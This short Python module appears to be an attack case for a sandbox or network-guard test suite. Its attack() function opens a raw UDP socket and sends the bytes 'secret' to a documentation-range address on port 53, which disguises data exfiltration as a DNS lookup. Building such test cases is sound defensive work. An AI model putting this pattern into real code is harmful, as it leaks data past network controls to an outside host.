"""Sends what it knows to the outside, as a name to be looked up."""

GUARDS = ("network",)


import _socket


def attack(world):
    sender = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    return sender.sendto(b"secret", ("192.0.2.77", 53))
